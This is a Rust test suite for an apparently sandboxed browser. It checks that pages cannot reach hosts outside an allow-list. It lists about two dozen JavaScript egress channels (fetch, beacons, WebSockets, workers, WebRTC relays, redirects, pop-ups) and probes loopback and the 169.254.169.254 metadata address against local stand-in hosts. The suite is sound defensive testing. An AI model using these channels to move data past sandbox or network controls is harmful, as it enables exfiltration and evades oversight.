//! Every way by which a page of an allowed host may try to reach a host outside: nothing arrives there. The same way to an allowed
//! host arrives, so that no row passes because its attack is broken.

use std::time::Duration;

use anyhow::ensure;
use serde_json::json;
use transom_tests::{
    site::{Page, Site},
    world::{Spec, World},
};
use transom_verbs::ErrorCode;

/// How long an arrival at the allowed host may take. It only bounds a failure.
const ARRIVES_WITHIN: Duration = Duration::from_secs(20);

/// How often a page is asked to gather candidates until the allowed relay is reached.
const ATTEMPTS: usize = 10;

/// A way out: a script of an allowed page that tries to reach `to`, an address without a path.
struct Way {
    name: &'static str,
    script: &'static str,
    /// It leaves by a person's click on `#go`, which the script made.
    by_click: bool,
}

const fn way(name: &'static str, script: &'static str) -> Way {
    Way { name, script, by_click: false }
}

const fn click(name: &'static str, script: &'static str) -> Way {
    Way { name, script, by_click: true }
}

/// Each script runs as `async (to, ws, host) => {…}` in the page: `to` is `http://host`, `ws` is `ws://host`.
const WAYS: &[Way] = &[
    way("fetch", "await fetch(to + '/fetch', {mode: 'no-cors'})"),
    way(
        "fetch through a redirect",
        "await fetch('/redirect?' + encodeURIComponent(to + '/redirected'), {mode: 'no-cors'})",
    ),
    way(
        "XMLHttpRequest",
        "await new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', to + '/xhr'); x.send() })",
    ),
    way("beacon", "navigator.sendBeacon(to + '/beacon', 'x')"),
    way(
        "image",
        "await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = to + '/image' })",
    ),
    way(
        "script element",
        "await new Promise(done => { const s = document.createElement('script'); s.onload = s.onerror = done; s.src = to + '/script.js'; document.head.append(s) })",
    ),
    way(
        "style sheet",
        "await new Promise(done => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = l.onerror = done; l.href = to + '/style.css'; document.head.append(l) })",
    ),
    way(
        "frame",
        "await new Promise(done => { const f = document.createElement('iframe'); f.onload = done; f.src = to + '/frame'; document.body.append(f) })",
    ),
    way(
        "form into a frame",
        "const f = document.createElement('iframe'); f.name = 'sink'; document.body.append(f); const form = document.createElement('form'); form.action = to + '/form'; form.method = 'post'; form.target = 'sink'; document.body.append(form); form.submit()",
    ),
    way("event source", "new EventSource(to + '/events')"),
    way(
        "WebSocket",
        "await new Promise(done => { const s = new WebSocket(ws + '/socket'); s.onmessage = s.onerror = s.onclose = done })",
    ),
    way(
        "worker that fetches",
        "await new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${to}/worker', {mode: 'no-cors'}).finally(() => postMessage(1))`]))); w.onmessage = done })",
    ),
    way(
        "worker that opens a WebSocket",
        "await new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob([`const s = new WebSocket('${ws}/worker-socket'); s.onmessage = s.onerror = s.onclose = () => postMessage(1)`]))); w.onmessage = done })",
    ),
    way(
        "service worker that fetches",
        "const r = await navigator.serviceWorker.register('/sw.js?' + encodeURIComponent(to)); await new Promise(done => { navigator.serviceWorker.onmessage = done; navigator.serviceWorker.ready.then(ready => ready.active.postMessage('go')) })",
    ),
    way("keepalive fetch", "await fetch(to + '/keepalive', {mode: 'no-cors', keepalive: true})"),
    way(
        "prefetch",
        "await new Promise(done => { const l = document.createElement('link'); l.rel = 'prefetch'; l.onload = l.onerror = done; l.href = to + '/prefetch'; document.head.append(l) })",
    ),
    way("module import", "await import(to + '/module.js')"),
    way(
        "data through a nested frame",
        "const f = document.createElement('iframe'); f.srcdoc = `<img src='${to}/nested'>`; document.body.append(f); await new Promise(done => f.onload = done)",
    ),
    way("navigation by script", "setTimeout(() => location.href = to + '/location')"),
    way(
        "navigation by meta refresh",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + to + '/meta'; document.head.append(m)",
    ),
    click("pop-up", "go.onclick = () => { window.open(to + '/popup') }"),
    click(
        "pop-up by way of about:blank",
        "go.onclick = () => { const w = window.open('about:blank'); w.location = to + '/blank-popup' }",
    ),
    click("pop-up without an opener", "go.onclick = () => { window.open(to + '/noopener', '_blank', 'noopener') }"),
    click(
        "link to a new tab",
        "const a = document.createElement('a'); a.href = to + '/target'; a.target = '_blank'; a.textContent = 'Go'; a.id = 'go'; go.replaceWith(a)",
    ),
    click(
        "download link",
        "const a = document.createElement('a'); a.href = to + '/file.bin'; a.download = 'file.bin'; a.textContent = 'Go'; a.id = 'go'; go.replaceWith(a)",
    ),
];

async fn shop() -> anyhow::Result<Site> {
    let shop = Site::start([
        ("/", Page::html("<!doctype html><title>Shop</title><button id=go>Go</button>")),
        (
            "/sw.js",
            Page::text(
                "text/javascript",
                "const to = decodeURIComponent(location.search.slice(1));
                 self.oninstall = () => self.skipWaiting();
                 self.onactivate = e => e.waitUntil(clients.claim());
                 self.onmessage = e => e.waitUntil(fetch(to + '/service-worker', {mode: 'no-cors'}).catch(() => {}).then(() => e.source.postMessage('done')))",
            ),
        ),
    ])
    .await?;
    Ok(shop)
}

async fn try_way(world: &World, shop: &Site, way: &Way, host: &str) -> anyhow::Result<()> {
    // The redirect of this attempt leads where the attempt goes.
    shop.set("/redirect", Page::redirect(302, &format!("http://{host}/redirected")));
    world.call("shop.navigate", json!({"url": "http://shop.localhost/"})).await?;
    let script = format!(
        "const run = async (to, ws, host) => {{ {} }};
         await Promise.race([run('http://{host}', 'ws://{host}', '{host}').catch(() => {{}}), new Promise(done => setTimeout(done, 3000))]);
         return 'tried'",
        way.script
    );
    // A way that navigates takes its own script's context away, or is refused: the count at the site is what decides.
    let _ = world.try_call("shop.evaluate", json!({"script": script})).await?;
    if way.by_click {
        let _ = world.try_call("shop.click", json!({"selector": "#go"})).await?;
    }
    // Whatever the page began is over, or refused, once a round trip through the page and the gate is.
    let _ = world.try_call("shop.wait", json!({"ms": 300})).await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_arrives_outside_and_the_same_way_arrives_at_an_allowed_host() -> anyhow::Result<()> {
    let (shop, friend, outside) = (shop().await?, Site::start([]).await?, Site::start([]).await?);
    for each in [&friend, &outside] {
        each.set(
            "/module.js",
            Page::text("text/javascript", "export default 1").header("access-control-allow-origin", "*"),
        );
        each.set("/file.bin", Page::text("application/octet-stream", "x"));
    }
    let world =
        Spec::shop(&shop).allows("friend.localhost", &friend).knows("outside.localhost", &outside).start().await?;
    let mut table = String::new();
    for way in WAYS {
        friend.forget();
        try_way(&world, &shop, way, "friend.localhost").await?;
        let arrived = friend.wait_for(way.name, ARRIVES_WITHIN, |seen| !seen.requests.is_empty()).await;
        ensure!(arrived.is_ok(), "the positive control of \"{}\" did not arrive: {arrived:?}\n{table}", way.name);
        try_way(&world, &shop, way, "outside.localhost").await?;
        let seen = outside.seen();
        table.push_str(&format!(
            "{:<36} allowed {}, outside {}\n",
            way.name,
            friend.seen().requests.len(),
            seen.n_connections
        ));
        ensure!(seen.n_connections == 0, "\"{}\" reached the outside: {:?}\n{table}", way.name, seen.requests);
    }
    println!("{table}");
    world.end().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn web_rtc_reaches_a_relay_on_an_allowed_host_only_and_never_by_udp() -> anyhow::Result<()> {
    let (shop, friend, outside) = (shop().await?, Site::start([]).await?, Site::start([]).await?);
    let udp = tokio::net::UdpSocket::bind(("127.0.0.1", 0)).await?;
    let udp_port = udp.local_addr()?.port();
    let world =
        Spec::shop(&shop).allows("friend.localhost", &friend).knows("outside.localhost", &outside).start().await?;
    world.call("shop.navigate", json!({"url": "http://shop.localhost/"})).await?;
    let script = format!(
        "const servers = [
            {{urls: 'stun:127.0.0.1:{udp_port}'}},
            {{urls: 'turn:127.0.0.1:{udp_port}?transport=udp', username: 'u', credential: 'c'}},
            {{urls: 'turns:outside.localhost:443?transport=tcp', username: 'u', credential: 'c'}},
            {{urls: 'turns:friend.localhost:443?transport=tcp', username: 'u', credential: 'c'}},
         ];
         const pc = new RTCPeerConnection({{iceServers: servers}});
         (window.kept ??= []).push(pc);
         pc.createDataChannel('x');
         await pc.setLocalDescription(await pc.createOffer());
         await Promise.race([
            new Promise(done => pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && done()),
            new Promise(done => setTimeout(done, 5000)),
         ]);
         return pc.iceGatheringState"
    );
    // Chromium gathers candidates in its own time and order, and gives up early on a busy machine: it is asked again until the positive
    // control arrives. Each time the same servers outside could have been reached.
    let mut arrived = Ok(());
    for _ in 0..ATTEMPTS {
        world.call("shop.evaluate", json!({"script": script})).await?;
        arrived =
            friend.wait_for("a relay's TLS connection", Duration::from_secs(3), |seen| seen.n_connections > 0).await;
        if arrived.is_ok() {
            break;
        }
    }
    arrived?;
    ensure!(outside.seen().n_connections == 0, "a relay outside was reached");
    let mut packet = [0; 1500];
    let heard = tokio::time::timeout(Duration::from_millis(100), udp.recv_from(&mut packet)).await;
    ensure!(heard.is_err(), "a UDP packet left the jail: {heard:?}");
    world.end().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_redirect_code_to_the_outside_is_refused_and_to_an_allowed_host_followed() -> anyhow::Result<()> {
    let (shop, friend, outside) = (shop().await?, Site::start([]).await?, Site::start([]).await?);
    friend.set("/landed", Page::html("<title>Landed</title>"));
    let world =
        Spec::shop(&shop).allows("friend.localhost", &friend).knows("outside.localhost", &outside).start().await?;
    for status in [301, 302, 303, 307, 308] {
        shop.set("/hop", Page::redirect(status, "http://friend.localhost/landed"));
        let reached =
            world.call("shop.navigate", json!({"url": format!("http://shop.localhost/hop?{status}")})).await?;
        ensure!(reached["url"] == "http://friend.localhost/landed", "{status}: {reached}");
        shop.set("/hop", Page::redirect(status, "http://outside.localhost/token-in-path"));
        let error =
            world.call_fails("shop.navigate", json!({"url": format!("http://shop.localhost/hop?{status}x")})).await?;
        ensure!(error.code == ErrorCode::SiteBlocked, "{status}: {error:?}");
        ensure!(error.message.contains("outside.localhost") && !error.message.contains("token-in-path"), "{error:?}");
    }
    ensure!(outside.seen().n_connections == 0, "a redirect reached the outside");
    world.end().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_address_of_the_host_itself_is_refused_also_when_a_listed_name_leads_there() -> anyhow::Result<()> {
    let (shop, secret) = (shop().await?, Site::start([]).await?);
    let port = secret.addr.port();
    // `inner.localhost` is listed and has no `resolve`: it is a loopback name, and its entry does not say `private`.
    let world = Spec::shop(&shop).with("resource_hosts = [\"inner.localhost\"]").start().await?;
    world.call("shop.navigate", json!({"url": "http://shop.localhost/"})).await?;
    for address in [
        format!("http://127.0.0.1:{port}/"),
        format!("http://[::1]:{port}/"),
        "http://169.254.169.254/latest/".into(),
        "http://inner.localhost/".into(),
    ] {
        let script = format!(
            "return await fetch({address:?}, {{mode: 'no-cors'}}).then(r => r.type + r.status, () => 'refused')"
        );
        let answer = world.call("shop.evaluate", json!({"script": script})).await?;
        ensure!(answer["value"] == "refused" || answer["value"] == "opaque0", "{address}: {answer}");
    }
    ensure!(secret.seen().n_connections == 0, "a page reached the host's own loopback");
    world.end().await;
    Ok(())
}
